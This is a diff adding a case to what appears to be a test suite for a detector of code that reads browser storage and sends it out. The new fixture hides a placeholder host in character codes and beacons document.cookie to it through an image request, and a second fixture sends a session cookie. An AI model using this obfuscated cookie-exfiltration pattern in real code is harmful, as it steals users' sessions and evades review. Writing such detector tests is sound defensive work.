@@ -13,6 +13,14 @@ examine(readsBrowserStorageAndSends, {
       weight: 'context',
     },
     {
+      when: 'all cookies go to a host that is put together from numbers, when somebody calls it',
+      files: {
+        'index.js': `const at = [99, 46, 105, 110, 118, 97, 108, 105, 100]; exports.flush = () => { const img = new Image(); img.src = 'https://' + String.fromCharCode.apply(null, at) + '/p.gif?d=' + encodeURIComponent(document.cookie); };`,
+      },
+      weight: 'strong',
+      says: ['c.invalid'],
+    },
+    {
       when: 'the same cookie is read and sent at import',
       files: {
         'index.js': `const { send } = require('./hub'); const { cookie } = require('./cookies'); send({ event: 'opened', user: cookie('session') })`,
